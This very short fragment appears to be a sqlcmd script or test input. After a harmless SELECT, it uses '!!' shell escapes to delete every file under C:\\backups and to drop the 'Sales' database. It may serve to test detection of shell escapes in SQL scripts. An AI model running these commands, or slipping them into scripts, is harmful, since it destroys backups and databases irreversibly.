SELECT 1;
!! del /q C:\\backups\\*
:!! sqlcmd -Q "DROP DATABASE Sales"
